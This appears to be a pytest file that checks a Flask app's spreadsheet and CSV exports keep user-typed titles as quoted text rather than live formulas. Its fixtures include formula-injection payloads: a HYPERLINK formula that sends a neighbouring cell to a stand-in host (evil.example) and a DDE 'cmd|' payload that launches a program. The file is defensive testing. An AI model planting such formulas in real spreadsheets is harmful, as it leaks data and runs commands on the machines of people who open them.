"""Issue 28 #3: text people typed must stay text in the spreadsheets Huiying writes, never a live formula.

A case titled `=HYPERLINK("http://evil.example/?"&A2,"点此查看")` became a formula in the office's 舆情台账
.xlsx: opened in Excel or WPS it would send the next cell to another site when clicked.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from flask import Flask
from openpyxl import load_workbook

from app.spreadsheet import csv_text
from tests.cases.helpers import Cast

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
#: each start a spreadsheet reads as a formula; tab and CR first (the API strips them, leaving the rest)
TITLES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=2+2"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_typed_text_is_a_string_cell_in_the_register_export(app: Flask) -> None:
    cast = Cast(app)
    ids = {cast.case(title=title)["id"]: title.strip() for title in TITLES}
    closed = cast.at("closed")
    outcome = "=1+1"
    # the close step of Cast.at says 已澄清; another closed case carries the formula as its outcome
    other = cast.at("responded")
    assert cast.office.post(f"/cases/{other['id']}/close", {"outcome": outcome}).status_code == 201

    resp = cast.office.get("/cases/export.xlsx")
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell holds a formula at all

    sheet = load_workbook(io.BytesIO(resp.data)).active
    header = [c.value for c in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    title_col, outcome_col = header.index("标题"), header.index("办结情况")
    for case_id, title in ids.items():
        cell = rows[case_id][title_col]
        assert cell.data_type == "s", (title, cell.data_type)
        assert cell.value == title  # kept exactly as typed, not altered
        assert cell.value.startswith(STARTS) and cell.quotePrefix, title  # Excel keeps it text when edited too
    cell = rows[other["id"]][outcome_col]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", outcome, True)
    plain = rows[closed["id"]][outcome_col]
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "已澄清", False)


@pytest.mark.parametrize("start", STARTS)
def test_a_csv_cell_starting_like_a_formula_is_quoted(start: str) -> None:
    """The audit CSV and every other CSV use the same rule: a leading apostrophe, which spreadsheets hide."""
    text = f"{start}HYPERLINK(\"http://evil.example/\")"
    out = io.StringIO()
    csv.writer(out).writerow([csv_text(text), csv_text("正常文字"), csv_text(None), csv_text(42)])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "正常文字", "", "42"]
